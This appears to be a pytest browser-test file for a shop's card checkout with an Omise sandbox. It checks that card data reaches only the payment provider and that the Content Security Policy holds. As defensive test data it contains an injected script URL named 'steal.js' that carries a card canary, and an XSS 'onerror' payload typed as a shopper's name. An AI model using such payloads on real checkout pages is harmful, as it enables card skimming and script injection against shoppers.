"""What a browser that shops may load, tell and follow, and whom: seen in a real one."""

import re
import threading
from contextlib import contextmanager

import pytest
from browser import DESKTOP, GOOD, HANGS_UP, NAME, expect
from flask import redirect
from rig import Omise, Quiet, Shop, eventually, free_port
from werkzeug.serving import make_server

import sandbox
from payment import checkout

pytest_plugins = ("journey",)
pytestmark = HANGS_UP

CUP = 49000


def test_the_card_is_told_to_omise_alone(window, asks_bank):
    """E9: no other request, to whomever, carries the card's number or the name on it."""
    window.pays()
    window.goes_on()
    window.answers("Approve")
    window.sees("paid")
    assert window.told(GOOD) == window.told(NAME) == {"/sandbox/tokens"}
    assert window.told("security_code") == {"/sandbox/tokens"}
    assert window.told("omiseToken") == {"/charge"}


def test_no_field_of_the_shop_s_own_could_take_a_card(window):
    """E9: none has a name for one, or asks the browser to fill one in."""
    fields = window.page.locator("input, select, textarea")
    told = fields.evaluate_all("all => all.map((one) => [one.name, one.autocomplete])")
    names = {name for name, _ in told}
    assert {"csrf_token", "omiseToken", "email"} <= names
    assert not [
        name
        for name in names
        if re.search("(?i)card.?n|cv[cv]|security|expir|^number", name)
    ]
    assert not [how for _, how in told if how.startswith("cc-")]


def test_only_known_scripts_run_where_a_card_is_typed(window):
    """E15: the page, and the form that pops up on it, load these scripts and no others."""
    window.sent.clear()
    window.page.reload()
    window.opens_form()
    assert window.scripts() == {
        "/payment/payment.js",
        "/sandbox/omise.js",
        "/sandbox/static/pay.js",
        "/sandbox/static/pay-cards.js",
        "/sandbox/static/pay-elements.js",
        "/sandbox/static/pay-embedded.js",
        "/sandbox/static/pay-fields.js",
        "/sandbox/static/pay-methods.js",
        "/sandbox/static/pay-words.js",
    }


def test_every_kind_of_page_keeps_to_its_policy(opened, shop):
    """E11, E24: the console stays clean, and no report of a breach is sent."""
    window = opened(shop, **DESKTOP)
    for path in ("/", "/cart"):
        window.page.goto(path)
        assert window.page.evaluate("document.styleSheets.length") == 1
    window.adds()
    window.opens_checkout()
    window.pays_by("PromptPay")
    window.sees("waiting")
    picture = window.page.locator(".code img")
    expect(picture).to_have_js_property("complete", True)
    assert picture.evaluate("one => one.naturalWidth") > 0
    for more in ("/complete", ""):
        window.page.goto(f"/orders/{window.order_id}{more}")
    assert window.page.evaluate(ASK) is True
    assert not window.posts("/reports")


# What payment.js does while an order waits.
ASK = "fetch(document.querySelector('[data-watch]').dataset.watch).then(one => one.ok)"


def test_a_script_that_was_smuggled_in_is_stopped_and_told(window, caplog):
    """E24: the policy holds on the payment page, and the shop hears of it."""
    window.page.evaluate("""
        const script = document.createElement("script");
        script.src = "http://127.0.0.1:9/steal.js?card=canary";
        document.body.append(script);
    """)
    eventually(lambda: window.hears("violates the following Content Security Policy"))
    eventually(lambda: "blocked=http://127.0.0.1:9/steal.js " in caplog.text)
    assert "directive=script-src-elem" in caplog.text
    assert "canary" not in caplog.text
    window.complaints.clear()


def test_names_that_look_like_markup_stay_words(window, asks_bank):
    """E11: what a shopper types is shown as they typed it, and never runs."""
    name = "<img src=x onerror=alert(1)>"
    window.pays(name=name)
    window.goes_on()
    expect(window.page.get_by_text(name)).to_be_visible()
    window.page.goto(f"/?q={name}")
    window.page.goto(f"/checkout?q={name}")


@contextmanager
def sandbox_apart(folder, webhook_uri):
    """Serve a sandbox on an origin of its own."""
    port = free_port()
    base = f"http://localhost:{port}/"
    app = sandbox.create_app(
        database=folder / "apart.sqlite3", webhook_uri=webhook_uri, base_url=base
    )
    server = make_server("localhost", port, app, True, request_handler=Quiet)
    thread = threading.Thread(target=server.serve_forever, args=(0.05,))
    thread.start()
    yield base
    server.shutdown()
    thread.join()
    server.server_close()
    app.extensions["sandbox_postman"].stop()
    app.extensions["sandbox"].close()


@pytest.fixture
def elsewhere(tmp_path):
    """Serve a shop whose Omise is on another origin, as the genuine one is."""
    shop = Shop(tmp_path / "shop")
    with sandbox_apart(tmp_path, f"{shop.url}/webhook") as base:
        shop.omise = Omise(base)
        shop.settings |= {
            "OMISE_SANDBOX": "off",
            "OMISE_PUBLIC_KEY": sandbox.PUBLIC_KEY,
            "OMISE_SECRET_KEY": sandbox.SECRET_KEY,
            "OMISE_WEBHOOK_SECRET": sandbox.WEBHOOK_SECRET,
            "OMISE_API_BASE": base,
            "OMISE_JS_URL": f"{base}omise.js",
        }
        with shop:
            shop.omise.control("settings", three_d_secure=True)
            yield shop


def test_a_bank_on_another_origin_is_reached_and_left(elsewhere, opened):
    """D6: the shipped policy lets the shopper go to the bank by itself, and come back."""
    window = opened(elsewhere, **DESKTOP)
    window.adds()
    window.opens_checkout()
    window.pays()
    window.page.wait_for_url(f"{elsewhere.omise.base}payments/**")
    window.answers("Approve")
    assert window.page.url.startswith(elsewhere.url)
    window.sees("paid")
    assert elsewhere.omise.charged(window.order_id) == {"successful": (1, CUP)}


def test_a_form_that_redirects_to_the_bank_would_be_stopped(
    elsewhere, opened, monkeypatch
):
    """D6, E11: without the page in between it fails, and the window's log shows it."""
    monkeypatch.setattr(checkout, "process", lambda made: redirect(made.authorize_uri))
    window = opened(elsewhere, **DESKTOP)
    window.adds()
    window.opens_checkout()
    window.pays()
    eventually(lambda: window.hears("form-action"))
    assert window.page.url == f"{elsewhere.url}/checkout"
    window.complaints.clear()
